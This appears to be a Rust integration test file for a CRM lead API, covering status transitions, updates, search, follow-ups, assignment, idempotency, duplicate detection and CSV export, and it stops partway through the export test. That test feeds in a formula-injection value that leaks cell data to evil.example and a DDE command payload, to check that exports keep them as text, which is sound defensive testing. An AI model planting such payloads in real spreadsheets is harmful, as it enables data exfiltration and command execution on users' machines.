//! The Lead capability over HTTP: capture, pipeline, updates, assignment, follow-ups,
//! interactions, archive, list and history.

use chrono::{Duration, Utc};
use domain::user::Role;
use serde_json::json;
use uuid::Uuid;

use crate::on_both_stores;
use crate::support::{asha, App, Fresh, Store};

on_both_stores!(
    pipeline_moves_and_history,
    updates_emit_only_changes,
    list_filters_search_and_pages,
    follow_ups_and_interactions,
    round_robin_assignment,
    idempotency_key_replays_the_first_answer,
    duplicates_are_reserved_and_disclosures_recorded,
    exports_are_scoped_spreadsheet_safe_and_recorded,
    names_are_found_as_an_agent_types,
    web_forms_capture_with_revocable_keys,
    scores_are_explained_factor_by_factor,
    round_robin_stays_in_the_leads_branch,
    near_duplicates_are_paired_with_a_score_and_reasons,
    a_csv_import_takes_the_good_rows_and_reports_the_rest,
);

async fn pipeline_moves_and_history(store: Store) {
    let app = App::start(store).await;
    let (id, p) = app.capture(asha()).await;
    let lead = app.lead(&id, p).await;
    assert_eq!(lead["status"], "new");
    assert_eq!(lead["phone"], "+919876543210");
    assert_eq!(lead["email"], "asha.rao@example.in");
    assert_eq!(lead["allowed_moves"], json!(["contacted", "lost"]));

    // Illegal move: refused, names the allowed moves, changes nothing.
    let head = app.log_head().await;
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "converted"}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/illegal-transition");
    assert_eq!(v["allowed"], json!(["contacted", "lost"]));
    assert_eq!(app.log_head().await, head);

    // Lost needs a reason.
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "lost"}),
        )
        .await;
    assert_eq!(s, 422);
    assert_eq!(v["errors"][0]["field"], "reason");

    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "contacted", "reason": "called"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "lost", "reason": "went to a discount broker"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "qualified"}),
        )
        .await;
    assert_eq!(s, 409, "from lost only back to where it was lost from: {v}");
    assert_eq!(v["allowed"], json!(["contacted"]));
    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "contacted", "reason": "called back"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "qualified"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/convert"),
            json!({"reason": "AOF signed"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let client_id = v["client_id"].as_str().unwrap().to_string();
    let lead = app.lead(&id, v["position"].as_i64().unwrap()).await;
    assert_eq!(lead["status"], "converted");
    assert_eq!(lead["client_id"], client_id.as_str());
    assert_eq!(lead["allowed_moves"], json!([]));
    let moves: Vec<&str> = lead["status_history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["to"].as_str().unwrap())
        .collect();
    assert_eq!(
        moves,
        vec![
            "new",
            "contacted",
            "lost",
            "contacted",
            "qualified",
            "converted"
        ]
    );
    assert_eq!(
        lead["status_history"][2]["reason"],
        "went to a discount broker"
    );

    // Converted is terminal.
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "lost", "reason": "x"}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/converted");

    // History: every event, oldest first, with metadata.
    let (s, h) = app.get(&format!("/api/leads/{id}/history")).await;
    assert_eq!(s, 200);
    let items = h["items"].as_array().unwrap();
    let types: Vec<&str> = items
        .iter()
        .map(|e| e["event_type"].as_str().unwrap())
        .collect();
    assert_eq!(
        types,
        vec![
            "LeadCaptured",
            "LeadStatusChanged",
            "LeadLost",
            "LeadReopened",
            "LeadStatusChanged",
            "LeadConverted"
        ]
    );
    for (i, e) in items.iter().enumerate() {
        assert_eq!(e["sequence"], (i + 1) as i64);
        assert_eq!(e["actor_role"], "admin");
        assert_eq!(e["actor_id"], app.admin.id.as_str());
        assert_eq!(e["client_ip"], "127.0.0.1");
        assert!(!e["request_id"].as_str().unwrap().is_empty());
    }
    assert!(items
        .windows(2)
        .all(|w| w[0]["position"].as_i64() < w[1]["position"].as_i64()));
    app.stop().await;
}

async fn updates_emit_only_changes(store: Store) {
    let app = App::start(store).await;
    let (id, _) = app.capture(asha()).await;
    let mut replace = asha();
    let obj = replace.as_object_mut().unwrap();
    obj.remove("channel");
    obj.insert("email".into(), json!("asha@example.com"));
    obj.remove("notes");
    let (s, v) = app
        .send(
            app.http
                .put(app.url(&format!("/api/leads/{id}")))
                .json(&replace),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let lead = app.lead(&id, v["position"].as_i64().unwrap()).await;
    assert_eq!(lead["email"], "asha@example.com");
    assert_eq!(
        lead["notes"],
        json!(null),
        "PUT clears omitted optional fields"
    );

    let (s, v) = app
        .send(
            app.http
                .patch(app.url(&format!("/api/leads/{id}")))
                .json(&json!({"phone": "+91 91234 56780", "email": null})),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let lead = app.lead(&id, v["position"].as_i64().unwrap()).await;
    assert_eq!(lead["phone"], "+919123456780");
    assert_eq!(lead["email"], json!(null));
    assert_eq!(lead["name"], "Asha Rao", "PATCH leaves absent fields");

    // If-Match: a change based on the version read goes through; a stale one is refused.
    let r = app
        .http
        .get(app.url(&format!("/api/leads/{id}")))
        .send()
        .await
        .unwrap();
    let etag = r.headers()["etag"].to_str().unwrap().to_string();
    assert_eq!(etag, format!("\"{}\"", lead["version"]));
    let patch = |tag: &str, notes: &str| {
        app.http
            .patch(app.url(&format!("/api/leads/{id}")))
            .header("If-Match", tag)
            .json(&json!({"notes": notes}))
    };
    let (s, v) = app.send(patch(&etag, "first agent")).await;
    assert_eq!(s, 200, "{v}");
    let head = app.log_head().await;
    let (s, v) = app.send(patch(&etag, "second agent, stale")).await;
    assert_eq!(s, 412, "{v}");
    assert_eq!(v["type"], "/problems/version-mismatch");
    assert_eq!(app.log_head().await, head);
    let (s, _) = app.send(patch("yesterday", "bad tag")).await;
    assert_eq!(s, 400);

    // Clearing the last contact channel is refused and changes nothing.
    let head = app.log_head().await;
    let (s, v) = app
        .send(
            app.http
                .patch(app.url(&format!("/api/leads/{id}")))
                .json(&json!({"phone": null})),
        )
        .await;
    assert_eq!(s, 422, "{v}");
    assert_eq!(app.log_head().await, head);

    // A PATCH that changes nothing appends nothing.
    let (s, _) = app
        .send(
            app.http
                .patch(app.url(&format!("/api/leads/{id}")))
                .json(&json!({"name": "Asha  Rao"})),
        )
        .await;
    assert_eq!(s, 200);
    assert_eq!(app.log_head().await, head);

    let (_, h) = app.get(&format!("/api/leads/{id}/history")).await;
    let changes: Vec<Vec<String>> = h["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event_type"] == "LeadDetailsChanged")
        .map(|e| {
            e["changed_fields"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f.as_str().unwrap().to_string())
                .collect()
        })
        .collect();
    assert_eq!(
        changes,
        vec![
            vec!["email".to_string(), "notes".to_string()],
            vec!["email".to_string(), "phone".to_string()],
            vec!["notes".to_string()],
        ]
    );
    app.stop().await;
}

async fn list_filters_search_and_pages(store: Store) {
    let app = App::start(store).await;
    let agent = app
        .actor(Role::RelationshipManager, Some("MUM-01"))
        .await
        .id;
    let mut ids = Vec::new();
    let mut last = 0;
    for i in 0..25 {
        let source = ["website", "referral", "walk_in"][i % 3];
        let mut body = json!({
            "name": format!("Lead Number {i}"),
            "phone": format!("98{:08}", i),
            "source": source,
        });
        if i % 5 == 0 {
            body["assign_to"] = json!(agent);
        }
        let (id, p) = app.capture(body).await;
        ids.push(id);
        last = p;
    }
    let (s, v) = app
        .post(
            &format!("/api/leads/{}/status", ids[3]),
            json!({"status": "contacted"}),
        )
        .await;
    assert_eq!(s, 200);
    last = last.max(v["position"].as_i64().unwrap());

    // Pages of 10 cover all 25 exactly once, newest first.
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let mut path = format!("/api/leads?limit=10&min_position={last}");
        if let Some(c) = &cursor {
            path.push_str(&format!("&cursor={c}"));
        }
        let (s, v) = app.get(&path).await;
        assert_eq!(s, 200, "{v}");
        assert_eq!(v["total"], 25);
        for item in v["items"].as_array().unwrap() {
            seen.push(item["id"].as_str().unwrap().to_string());
        }
        match v["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_string()),
            None => break,
        }
    }
    let mut expected = ids.clone();
    expected.reverse();
    assert_eq!(seen, expected);

    let (_, v) = app.get("/api/leads?source=referral").await;
    assert_eq!(v["total"], 8);
    let (_, v) = app.get("/api/leads?status=contacted").await;
    assert_eq!(v["total"], 1);
    assert_eq!(v["items"][0]["id"], ids[3].as_str());
    let (_, v) = app.get(&format!("/api/leads?assignee={agent}")).await;
    assert_eq!(v["total"], 5);
    let (_, v) = app.get("/api/leads?unassigned=true").await;
    assert_eq!(v["total"], 20);
    // Search by the national number as agents type it, and by name.
    let (_, v) = app.get("/api/leads?q=9800000012").await;
    assert_eq!(v["total"], 1);
    let (_, v) = app.get("/api/leads?q=%2B91%2098000%2000012").await;
    assert_eq!(v["total"], 1, "a spaced +91 form finds the same lead");
    assert_eq!(v["items"][0]["name"], "Lead Number 12");
    // Words match whole words of the name, in any order and case.
    let (_, v) = app.get("/api/leads?q=NUMBER%201%20lead").await;
    assert_eq!(v["total"], 1);
    assert_eq!(v["items"][0]["name"], "Lead Number 1");
    let (_, v) = app.get("/api/leads?q=number").await;
    assert_eq!(v["total"], 25);
    // The beginning of a name word (three letters or more) finds it; any other part does not
    // (only blind indexes of whole words and of beginnings are stored).
    let (_, v) = app.get("/api/leads?q=numb").await;
    assert_eq!(v["total"], 25);
    let (_, v) = app.get("/api/leads?q=umber").await;
    assert_eq!(v["total"], 0, "no inner parts of words");
    // Input with no words matches nothing (and is no wildcard).
    let (_, v) = app.get("/api/leads?q=%25").await;
    assert_eq!(v["total"], 0);
    let (s, _) = app.get("/api/leads?sort=name").await;
    assert_eq!(s, 400, "names are encrypted: no sorting by them");
    let (_, v) = app.get("/api/leads?sort=score&order=desc&limit=3").await;
    let scores: Vec<i64> = v["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["score"].as_i64().unwrap())
        .collect();
    assert!(scores.windows(2).all(|w| w[0] >= w[1]), "{scores:?}");
    let future = (Utc::now() + Duration::days(1))
        .to_rfc3339()
        .replace('+', "%2B");
    let (_, v) = app.get(&format!("/api/leads?created_from={future}")).await;
    assert_eq!(v["total"], 0);

    // Archive: leaves the default list, stays readable, history intact.
    let (s, v) = app
        .send(
            app.http
                .delete(app.url(&format!("/api/leads/{}?reason=duplicate", ids[0]))),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let p = v["position"].as_i64().unwrap();
    let (_, v) = app.get(&format!("/api/leads?min_position={p}")).await;
    assert_eq!(v["total"], 24);
    let (_, v) = app.get("/api/leads?include_archived=true").await;
    assert_eq!(v["total"], 25);
    let lead = app.lead(&ids[0], p).await;
    assert_eq!(lead["archived"], true);
    let (s, v) = app
        .send(app.http.delete(app.url(&format!("/api/leads/{}", ids[0]))))
        .await;
    assert_eq!(
        (s, v["position"].as_i64()),
        (200, Some(p)),
        "archiving again changes nothing"
    );
    let (s, v) = app
        .post(
            &format!("/api/leads/{}/status", ids[0]),
            json!({"status": "contacted"}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/archived");
    app.stop().await;
}

async fn follow_ups_and_interactions(store: Store) {
    let app = App::start(store).await;
    let agent = app
        .actor(Role::RelationshipManager, Some("MUM-01"))
        .await
        .id;
    let mut body = asha();
    body["assign_to"] = json!(agent);
    let (id, _) = app.capture(body).await;
    let soon = Utc::now() + Duration::minutes(30);
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/follow-ups"),
            json!({"due_at": soon, "channel": "call", "note": "SIP illustration"}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let fid = v["id"].as_str().unwrap().to_string();
    let p = v["position"].as_i64().unwrap();

    let (s, v) = app
        .get(&format!(
            "/api/follow-ups?agent_id={agent}&due=upcoming&min_position={p}"
        ))
        .await;
    assert_eq!(s, 200);
    assert_eq!(v["total"], 1);
    assert_eq!(v["items"][0]["follow_up_id"], fid.as_str());
    assert_eq!(v["items"][0]["lead_name"], "Asha Rao");
    assert_eq!(v["items"][0]["lead_email"], "asha.rao@example.in", "{v}");
    assert_eq!(v["items"][0]["lead_phone"], "+919876543210");
    let (_, v) = app
        .get(&format!(
            "/api/follow-ups?agent_id={}&due=any",
            Uuid::new_v4()
        ))
        .await;
    assert_eq!(v["total"], 0, "another agent's list is empty");
    let (_, v) = app.get("/api/follow-ups?due=overdue").await;
    assert_eq!(v["total"], 0);
    let (_, v) = app.get("/api/leads?follow_up=upcoming").await;
    assert_eq!(v["total"], 1);

    // Past due dates are refused.
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/follow-ups"),
            json!({"due_at": Utc::now() - Duration::hours(2), "channel": "call"}),
        )
        .await;
    assert_eq!(s, 422);
    assert_eq!(v["errors"][0]["field"], "due_at");

    let later = Utc::now() + Duration::days(2);
    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/follow-ups/{fid}/reschedule"),
            json!({"due_at": later, "reason": "travelling"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/follow-ups/{fid}/complete"),
            json!({"note": "forms sent"}),
        )
        .await;
    assert_eq!(s, 200);
    let p = v["position"].as_i64().unwrap();
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/follow-ups/{fid}/cancel"),
            json!({}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/follow-up-closed");
    let (s, _) = app
        .post(
            &format!("/api/leads/{id}/follow-ups/{}/complete", Uuid::new_v4()),
            json!({}),
        )
        .await;
    assert_eq!(s, 404);
    let (_, v) = app
        .get(&format!("/api/follow-ups?due=any&min_position={p}"))
        .await;
    assert_eq!(v["total"], 0, "completed follow-ups leave the due list");

    for (kind, dir) in [
        ("call", "outbound"),
        ("email", "inbound"),
        ("note", "outbound"),
    ] {
        let (s, v) = app
            .post(&format!("/api/leads/{id}/interactions"), json!({"kind": kind, "direction": dir, "summary": format!("{kind} logged"), "duration_minutes": 5}))
            .await;
        assert_eq!(s, 201, "{v}");
    }
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/interactions"),
            json!({"kind": "call", "summary": "   "}),
        )
        .await;
    assert_eq!(s, 422);
    assert_eq!(v["errors"][0]["field"], "summary");
    let head = app.log_head().await;
    let (_, v) = app
        .get(&format!(
            "/api/leads/{id}/interactions?limit=2&min_position={head}"
        ))
        .await;
    assert_eq!(v["total"], 3);
    assert_eq!(v["items"][0]["summary"], "note logged", "newest first");
    let next = v["next_cursor"].as_str().unwrap().to_string();
    let (_, v) = app
        .get(&format!(
            "/api/leads/{id}/interactions?limit=2&cursor={next}"
        ))
        .await;
    assert_eq!(v["items"].as_array().unwrap().len(), 1);
    assert_eq!(v["items"][0]["summary"], "call logged");
    let lead = app.lead(&id, head).await;
    assert!(
        lead["score"].as_i64().unwrap() > 20,
        "engagement raises the score: {}",
        lead["score"]
    );

    // A lead marked lost takes its open follow-ups off the due list.
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/follow-ups"),
            json!({"due_at": Utc::now() + Duration::days(1), "channel": "call"}),
        )
        .await;
    assert_eq!(s, 201, "{v}");
    let p = v["position"].as_i64().unwrap();
    let (_, v) = app
        .get(&format!("/api/follow-ups?due=any&min_position={p}"))
        .await;
    assert_eq!(v["total"], 1, "{v}");
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/status"),
            json!({"status": "lost", "reason": "chose another broker"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let p = v["position"].as_i64().unwrap();
    let (_, v) = app
        .get(&format!("/api/follow-ups?due=any&min_position={p}"))
        .await;
    assert_eq!(v["total"], 0, "closed with the lead: {v}");
    app.stop().await;
}

async fn round_robin_assignment(store: Store) {
    let app = App::start(store).await;
    // Relationship managers, in name order (the rotation's order).
    let mut agents = Vec::new();
    for name in ["Agent A", "Agent B", "Agent C"] {
        let a = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
        let (s, v) = app
            .send(
                app.http
                    .patch(app.url(&format!("/api/users/{}", a.id)))
                    .json(&json!({"name": name})),
            )
            .await;
        assert_eq!(s, 200, "{v}");
        agents.push(Uuid::parse_str(&a.id).unwrap());
        let p = v["position"].as_i64().unwrap();
        let (s, _) = app.get(&format!("/api/users?min_position={p}")).await;
        assert_eq!(s, 200);
    }
    let mut got = Vec::new();
    let mut last = 0;
    for i in 0..4 {
        let (id, p) = app.capture(json!({"name": format!("RR {i}"), "email": format!("rr{i}@example.in"), "source": "website", "round_robin": true})).await;
        got.push(
            app.lead(&id, p).await["assignee"]
                .as_str()
                .unwrap()
                .to_string(),
        );
        last = p;
    }
    let names: Vec<String> = agents.iter().map(|a| a.to_string()).collect();
    assert_eq!(
        got,
        vec![
            names[0].clone(),
            names[1].clone(),
            names[2].clone(),
            names[0].clone()
        ]
    );
    // The assignable staff say who the rotation gives leads to: the three agents, not a
    // branch manager.
    let manager = app.actor(Role::BranchManager, Some("MUM-01")).await;
    let (s, v) = app.get("/api/agents").await;
    assert_eq!(s, 200, "{v}");
    let in_rotation = |id: &str| {
        v["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|a| a["id"] == id)
            .map(|a| (a["role"].clone(), a["in_rotation"].clone()))
    };
    // Named as renamed above, with their branch.
    let first = v["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == names[0].as_str())
        .unwrap();
    assert_eq!(
        (first["name"].as_str(), first["branch"].as_str()),
        (Some("Agent A"), Some("MUM-01")),
        "{v}"
    );
    for name in &names {
        assert_eq!(
            in_rotation(name),
            Some((json!("relationship_manager"), json!(true)))
        );
    }
    if let Some(seen) = in_rotation(&manager.id) {
        assert_eq!(seen, (json!("branch_manager"), json!(false)));
    }

    let (id, _) = app.capture(json!({"name": "Direct", "email": "d@example.in", "source": "referral", "assign_to": agents[1]})).await;
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/assignment"),
            json!({"agent_id": agents[2], "reason": "leave cover"}),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let lead = app.lead(&id, v["position"].as_i64().unwrap()).await;
    assert_eq!(lead["assignee"], names[2].as_str());
    assert_eq!(
        lead["assignments"][1]["previous_agent_id"],
        names[1].as_str()
    );
    assert_eq!(lead["assignments"][1]["reason"], "leave cover");
    let (s, v) = app
        .post(
            &format!("/api/leads/{id}/assignment"),
            json!({"agent_id": agents[2]}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/already-assigned");
    let (s, _) = app
        .post(
            &format!("/api/leads/{}/assignment", Uuid::new_v4()),
            json!({"round_robin": true}),
        )
        .await;
    assert_eq!(s, 404);
    let (s, _) = app
        .post(&format!("/api/leads/{id}/assignment"), json!({}))
        .await;
    assert_eq!(s, 422);
    assert!(last > 0);
    app.stop().await;

    let app = App::start(store).await;
    let head = app.log_head().await;
    let (s, v) = app
        .post(
            "/api/leads",
            json!({"name": "X", "email": "x@example.in", "source": "website", "round_robin": true}),
        )
        .await;
    assert_eq!(s, 409);
    assert_eq!(v["type"], "/problems/no-active-agents");
    assert_eq!(app.log_head().await, head);
    app.stop().await;
}

async fn idempotency_key_replays_the_first_answer(store: Store) {
    let app = App::start(store).await;
    let send = |key: &str, body: serde_json::Value| {
        app.http
            .post(app.url("/api/leads"))
            .header("Idempotency-Key", key)
            .json(&body)
    };
    let (s1, v1) = app.send(send("key-1", asha())).await;
    assert_eq!(s1, 201);
    let head = app.log_head().await;
    let (s2, v2) = app.send(send("key-1", asha())).await;
    assert_eq!(s2, 201);
    assert_eq!(v1, v2, "the repeat gets the first answer");
    assert_eq!(app.log_head().await, head, "and appends nothing");
    let mut other = asha();
    other["name"] = json!("Someone Else");
    let (s3, v3) = app.send(send("key-1", other)).await;
    assert_eq!(s3, 422);
    assert_eq!(v3["type"], "/problems/idempotency-key-reused");
    // A failed command releases its key for a corrected retry.
    let bilal = json!({"name": "Bilal Shaikh", "phone": "9123456789", "source": "walk_in"});
    let mut bad = bilal.clone();
    bad["phone"] = json!("123");
    let (s4, _) = app.send(send("key-2", bad)).await;
    assert_eq!(s4, 422);
    let (s5, _) = app.send(send("key-2", bilal)).await;
    assert_eq!(s5, 201);
    // Another capture of the same person (e-mail or phone in any form) is a duplicate,
    // found through blind indexes; it can still be captured on purpose.
    let first = v1["id"].as_str().unwrap();
    app.lead(first, app.log_head().await).await;
    let mut again = asha();
    again["email"] = json!("ASHA.RAO@example.in");
    again["phone"] = json!("+91 98765-43210");
    let (s6, v6) = app.post("/api/leads", again.clone()).await;
    assert_eq!(s6, 409, "{v6}");
    assert_eq!(v6["type"], "/problems/duplicate-lead");
    assert_eq!(v6["duplicate_of"], json!([first]));
    again["allow_duplicate"] = json!(true);
    let (s7, _) = app.post("/api/leads", again).await;
    assert_eq!(s7, 201);
    // Status moves too.
    let id = v1["id"].as_str().unwrap();
    let mv = || {
        app.http
            .post(app.url(&format!("/api/leads/{id}/status")))
            .header("Idempotency-Key", "move-1")
            .json(&json!({"status": "contacted"}))
    };
    let (a, va) = app.send(mv()).await;
    let (b, vb) = app.send(mv()).await;
    assert_eq!((a, b), (200, 200), "{va} {vb}");
    assert_eq!(va, vb);
    let (_, h) = app.get(&format!("/api/leads/{id}/history")).await;
    assert_eq!(h["items"].as_array().unwrap().len(), 2);
    app.stop().await;
}

/// Duplicate captures are decided by the contact register: of concurrent captures of one
/// person exactly one passes. The whole command is checked first, and an answer that discloses
/// a person the caller may not open is recorded as an access to them and rate-limited.
async fn duplicates_are_reserved_and_disclosures_recorded(store: Store) {
    let app = App::start_with(Fresh::new(store).await, |c| {
        c.serve.work_rate_per_minute = 4;
    })
    .await;
    let a = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let b = app.actor(Role::RelationshipManager, Some("MUM-01")).await;

    // Eight captures of one person at once: one lead.
    let person = json!({"name": "Chitra Menon", "email": "chitra.menon@example.in",
                        "phone": "9811122233", "source": "website"});
    let sends = (0..8).map(|_| app.post("/api/leads", person.clone()));
    let answers = futures::future::join_all(sends).await;
    let created: Vec<_> = answers.iter().filter(|(s, _)| *s == 201).collect();
    let refused = answers
        .iter()
        .filter(|(s, v)| *s == 409 && v["type"] == "/problems/duplicate-lead");
    assert_eq!(created.len(), 1, "{answers:?}");
    assert_eq!(refused.count(), 7, "{answers:?}");
    let (_, list) = app
        .get(&format!(
            "/api/leads?q=chitra&min_position={}",
            app.log_head().await
        ))
        .await;
    assert_eq!(list["total"], 1, "{list}");

    // Agent a's lead; agent b may not open it.
    let (s, v) = app.post_as(&a, "/api/leads", asha()).await;
    assert_eq!(s, 201, "{v}");
    let asha_id = v["id"].as_str().unwrap().to_string();
    let head = app.log_head().await;
    app.lead(&asha_id, head).await;
    let disclosures = |db: store::Db, id: String| async move {
        let n: i64 = store::with_db!(&db, pool => {
            sqlx::query_scalar(
                "SELECT COUNT(*) FROM events WHERE event_type = 'PiiViewed'
                   AND CAST(payload AS TEXT) LIKE '%duplicate_match%'
                   AND CAST(payload AS TEXT) LIKE '%' || $1 || '%'",
            )
            .bind(id)
            .fetch_one(pool)
            .await
            .unwrap()
        });
        n
    };

    // A command that would fail anyway says nothing of who is on file.
    let mut bad = asha();
    bad["assign_to"] = json!(Uuid::new_v4());
    let (s, v) = app.post_as(&b, "/api/leads", bad).await;
    assert_eq!(s, 422, "{v}");
    assert_ne!(v["type"], "/problems/duplicate-lead");
    assert_eq!(disclosures(app.db().clone(), asha_id.clone()).await, 0);

    // The duplicate answer names no lead b may not open, and is recorded as b's access.
    for n in 1..=3 {
        let (s, v) = app.post_as(&b, "/api/leads", asha()).await;
        assert_eq!(s, 409, "{v}");
        assert_eq!(v["duplicate_of"], json!([]));
        assert_eq!(disclosures(app.db().clone(), asha_id.clone()).await, n);
    }
    // Past the per-user limit of captures (four a minute here, the refused one counted) the
    // answer is 429 whether or not the person is on file, and nothing more is disclosed.
    let (s, v) = app.post_as(&b, "/api/leads", asha()).await;
    assert_eq!(s, 429, "{v}");
    let stranger = json!({"name": "Nobody Known", "email": "nobody.known@example.in",
                          "source": "website"});
    let (s, v) = app.post_as(&b, "/api/leads", stranger).await;
    assert_eq!(s, 429, "the same for a person not on file: {v}");
    assert_eq!(disclosures(app.db().clone(), asha_id.clone()).await, 3);
    // Agent a sees their own lead named.
    let (s, v) = app.post_as(&a, "/api/leads", asha()).await;
    assert_eq!(s, 409);
    assert_eq!(v["duplicate_of"], json!([asha_id]));

    // A lead's new e-mail address must be no other open lead's either; the old one is then
    // free for others.
    let (chitra_id, _) = {
        let (_, list) = app.get("/api/leads?q=chitra.menon@example.in").await;
        (list["items"][0]["id"].as_str().unwrap().to_string(), ())
    };
    let patch = |id: &str, body: serde_json::Value| {
        app.send(
            app.http
                .patch(app.url(&format!("/api/leads/{id}")))
                .json(&body),
        )
    };
    let (s, v) = patch(&chitra_id, json!({"email": "asha.rao@example.in"})).await;
    assert_eq!(
        (s, v["type"].as_str()),
        (409, Some("/problems/duplicate-lead")),
        "{v}"
    );
    assert_eq!(v["duplicate_of"], json!([asha_id]));
    let (s, v) = patch(&chitra_id, json!({"email": "chitra.m@example.in"})).await;
    assert_eq!(s, 200, "{v}");
    app.lead(&chitra_id, v["position"].as_i64().unwrap()).await;
    let (s, v) = app
        .post(
            "/api/leads",
            json!({"name": "Chitra Two", "email": "chitra.menon@example.in", "source": "website"}),
        )
        .await;
    assert_eq!(s, 201, "the old address is free: {v}");
    let (s, v) = app
        .post(
            "/api/leads",
            json!({"name": "Chitra Three", "email": "chitra.m@example.in", "source": "website"}),
        )
        .await;
    assert_eq!(s, 409, "the new one is held: {v}");

    // Leads the register does not know (captured before it existed) are reserved from the
    // read model when a server starts.
    let count = |db: store::Db| async move {
        let n: i64 = store::with_db!(&db, pool => {
            sqlx::query_scalar("SELECT COUNT(*) FROM lead_contacts")
                .fetch_one(pool)
                .await
                .unwrap()
        });
        n
    };
    let held = count(app.db().clone()).await;
    assert!(held >= 3, "{held}");
    store::with_db!(app.db(), pool => {
        sqlx::query("DELETE FROM lead_contacts").execute(pool).await.unwrap();
    });
    let app = app.restart_with(|c| c.serve.work_rate_per_minute = 4).await;
    let mut refilled = 0;
    for _ in 0..100 {
        refilled = count(app.db().clone()).await;
        if refilled == held {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(refilled, held);

    // Archived, its contact is free again.
    let (s, v) = app
        .send(
            app.http
                .delete(app.url(&format!("/api/leads/{asha_id}?reason=moved"))),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    app.lead(&asha_id, app.log_head().await).await;
    let (s, v) = app.post_as(&a, "/api/leads", asha()).await;
    assert_eq!(s, 201, "{v}");
    app.stop().await;
}

/// Rows of a CSV answer (header first).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Lead and client lists as CSV: only for the roles that may export, with the caller's
/// filters, formula-like cells kept as text, and every person exported recorded as an access.
async fn exports_are_scoped_spreadsheet_safe_and_recorded(store: Store) {
    let app = App::start(store).await;
    let rm = app.actor(Role::RelationshipManager, Some("MUM-01")).await;
    let evil = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
    let (first, _) = app
        .capture(
            json!({"name": "Farah Khan", "email": "farah@example.in", "source": "partner",
                        "source_detail": evil}),
        )
        .await;
    app.capture(
        json!({"name": "Gopal Iyer", "phone": "9822001122", "source": "partner",
                       "source_detail": "+cmd|' /C calc'!A0"}),
    )
    .await;
    let (_, p) = app
        .capture(json!({"name": "Hema Pillai", "email": "hema@example.in", "source": "website"}))
        .await;
    app.lead(&first, p).await;

    let (s, v) = app.get_as(&rm, "/api/leads/export").await;
    assert_eq!(s, 403, "{v}");
    let r = app
        .http
        .get(app.url("/api/leads/export?source=partner&sort=created_at&order=asc"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    assert!(r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .starts_with("attachment; filename=\"leads-"));
    let rows = csv_rows(&r.text().await.unwrap());
    assert_eq!(rows[0][..4], ["id", "name", "email", "phone"]);
    assert_eq!(rows.len(), 3, "the filter holds: {rows:?}");
    assert_eq!(rows[1][0], first);
    assert_eq!(rows[1][1], "Farah Khan");
    assert_eq!(rows[1][2], "farah@example.in");
    assert_eq!(rows[1][5], format!("'{evil}"), "a formula stays text");
    assert_eq!(
        rows[2][3], "+919822001122",
        "a phone number is left as it is"
    );
    assert_eq!(rows[2][5], "'+cmd|' /C calc'!A0");
    let exports = |db: store::Db| async move {
        let n: i64 = store::with_db!(&db, pool => {
            sqlx::query_scalar(
                "SELECT COUNT(*) FROM events WHERE event_type = 'PiiViewed'
                   AND CAST(payload AS TEXT) LIKE '%\"export\"%'",
            )
            .fetch_one(pool)
            .await
            .unwrap()
        });
        n
    };
    assert_eq!(
        exports(app.db().clone()).await,
        2,
        "each person exported is an access"
    );

    // Clients: the PAN by its last four characters only.
    let (s, v) = app
        .post(
